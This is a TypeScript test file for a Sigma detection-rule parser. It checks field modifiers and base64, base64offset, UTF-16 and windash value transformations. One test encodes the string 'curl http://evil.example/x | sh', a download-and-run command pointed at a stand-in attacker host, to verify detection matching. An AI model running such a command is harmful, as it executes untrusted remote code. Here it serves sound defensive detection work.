/**
 * Field keys and their modifiers: what they parse to, which combinations are
 * refused, and what the value transformations (windash, base64,
 * base64offset, UTF-16) produce.
 */
import { describe, expect, it } from 'vitest';
import { RuleInvalid, RuleUnsupported } from '../../../src/rules/sigma/errors.js';
import { parseFieldKey, transformPattern, WINDASH_CHARS, type FieldSpec, type Transform } from '../../../src/rules/sigma/modifiers.js';
import { parsePattern, patternText, type Pattern } from '../../../src/rules/sigma/pattern.js';

const AT = { file: 'r.yml', line: 7, column: 9 };

describe('parseFieldKey', () => {
  const cases: [string, string, Partial<FieldSpec>][] = [
    ['a bare field is an equality match', 'Image', { field: 'Image', match: 'equals', all: false, cased: false, transforms: [] }],
    ['contains is a match modifier', 'CommandLine|contains', { match: 'contains' }],
    ['all can follow contains', 'CommandLine|contains|all', { match: 'contains', all: true }],
    ['modifiers are case-insensitive', 'Image|EndsWith', { match: 'endswith' }],
    ['re takes its i, m and s sub-modifiers as flags', 'CommandLine|re|i|m|s', { match: 're', reFlags: 'ims' }],
    ['re sub-modifiers have long names', 'CommandLine|re|ignorecase|dotall', { match: 're', reFlags: 'is' }],
    ['transformations are kept in order', 'CommandLine|wide|base64offset|contains', { match: 'contains', transforms: ['utf16le', 'base64offset'] }],
    ['windash is a transformation', 'CommandLine|windash|contains', { match: 'contains', transforms: ['windash'] }],
    ['cased is a flag', 'CommandLine|contains|cased', { cased: true }],
    ['cidr is a match modifier', 'DestinationIp|cidr', { match: 'cidr' }],
    ['exists is a match modifier', 'User|exists', { match: 'exists' }],
    ['gte is a match modifier', 'DestinationPort|gte', { match: 'gte' }],
    ['fieldref combines with startswith', 'Image|fieldref|startswith', { fieldref: true, match: 'startswith' }],
    ['a key of only modifiers has no field (a keyword search)', '|all', { field: '', all: true }],
  ];
  it.each(cases)('%s', (_name, key, expected) => {
    expect(parseFieldKey(key, AT)).toMatchObject(expected);
  });

  const errors: [string, string, string][] = [
    ['an unknown modifier is an error naming it', 'Image|endwith', 'r.yml:7:9: "Image|endwith": unknown modifier "endwith"'],
    ['two match modifiers are an error', 'Image|contains|endswith', 'r.yml:7:9: "Image|contains|endswith": modifiers contains and endswith cannot be combined'],
    ['a regex flag without re is an error', 'Image|i', 'r.yml:7:9: "Image|i": modifier i needs re before it'],
    ['a transformation before re is an error', 'Image|base64|re', 'r.yml:7:9: "Image|base64|re": modifier re cannot follow a value transformation'],
    ['cased with cidr is an error', 'DestinationIp|cidr|cased', 'r.yml:7:9: "DestinationIp|cidr|cased": modifier cased applies to string matching, not cidr'],
  ];
  it.each(errors)('%s', (_name, key, message) => {
    expect(() => parseFieldKey(key, AT)).toThrow(RuleInvalid);
    expect(() => parseFieldKey(key, AT)).toThrow(message);
  });

  const unsupported: [string, string, string][] = [
    ['expand needs placeholders hindsight does not have', 'Image|expand', 'modifier expand'],
    ['time-part modifiers are not supported', 'UtcTime|hour', 'modifier hour'],
    ['UTF-16 without base64 is not Linux text', 'CommandLine|wide|contains', 'modifier wide without base64'],
  ];
  it.each(unsupported)('%s', (_name, key, reason) => {
    expect(() => parseFieldKey(key, AT)).toThrow(RuleUnsupported);
    expect(() => parseFieldKey(key, AT)).toThrow(reason);
  });
});

const fail = (message: string): never => {
  throw new Error(message);
};
const texts = (patterns: Pattern[]) => patterns.map((p) => patternText(p));
const run = (value: string, ...transforms: Transform[]) => texts(transformPattern(parsePattern(value), transforms, fail));

describe('value transformations', () => {
  const cases: [string, string, Transform[], string[]][] = [
    ['base64 encodes the whole value with padding', 'ping', ['base64'], ['cGluZw==']],
    ['wide then base64 encodes UTF-16LE', 'ping', ['utf16le', 'base64'], ['cABpAG4AZwA=']],
    ['utf16be then base64 encodes UTF-16BE', 'ab', ['utf16be', 'base64'], ['AGEAYg==']],
    ['utf16 then base64 starts with the byte order mark', 'a', ['utf16', 'base64'], ['//5hAA==']],
    // The Sigma specification's example for base64offset.
    ['base64offset gives the three offset encodings of the specification example', '/bin/bash', ['base64offset'], ['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']],
    ['windash gives every dash variant of a word-leading dash', 'x -enc', ['windash'], WINDASH_CHARS.map((c) => `x ${c}enc`)],
    ['windash leaves a dash inside a word alone', 'a-b', ['windash'], ['a-b']],
    ['windash also varies a leading slash', '/c', ['windash'], WINDASH_CHARS.map((c) => `${c}c`)],
  ];
  it.each(cases)('%s', (_name, value, transforms, expected) => {
    expect(run(value, ...transforms)).toEqual(expected);
  });

  // The public rule "Linux Base64 Encoded Shebang In CLI" lists IyEvYmluL2Jhc2 for '#!/bin/bash' and IyEvYmluL3No for '#!/bin/sh'.
  it.each([['#!/bin/bash', 'IyEvYmluL2Jhc2'], ['#!/bin/sh', 'IyEvYmluL3No']])('base64offset at offset 0 of %s is what the public shebang rule lists', (value, listed) => {
    expect(run(value, 'base64offset')[0]).toBe(listed);
  });

  it('windash with two dashes gives every combination', () => {
    expect(run('-a -b', 'windash')).toHaveLength(WINDASH_CHARS.length ** 2);
  });

  it('windash keeps wildcards as wildcards', () => {
    const out = transformPattern(parsePattern('*-e*'), ['windash'], fail);
    expect(out).toHaveLength(WINDASH_CHARS.length);
    expect(out[1]).toEqual([{ kind: 'any' }, { kind: 'text', text: '/e' }, { kind: 'any' }]);
  });

  it('base64offset variants are found in the base64 of the value at every offset and with any surroundings', () => {
    const value = 'curl http://evil.example/x | sh';
    const variants = run(value, 'base64offset') as string[];
    for (let before = 0; before < 6; before++) {
      for (let after = 0; after < 4; after++) {
        const text = `${'P'.repeat(before)}${value}${'Q'.repeat(after)}`;
        const encoded = Buffer.from(text).toString('base64');
        expect(variants.some((v) => encoded.includes(v)), `${before} before, ${after} after`).toBe(true);
      }
    }
  });

  const refused: [string, string, Transform[], string][] = [
    ['base64 of a value with wildcards is refused', 'a*b', ['base64'], 'base64: a value with wildcards cannot be encoded'],
    ['base64offset of a one-character value is refused', 'a', ['base64offset'], 'too short'],
    ['windash with five dashes is refused', '-a -b -c -d -e', ['windash'], 'at most 4 dashes'],
  ];
  it.each(refused)('%s', (_name, value, transforms, message) => {
    expect(() => run(value, ...transforms)).toThrow(message);
  });
});
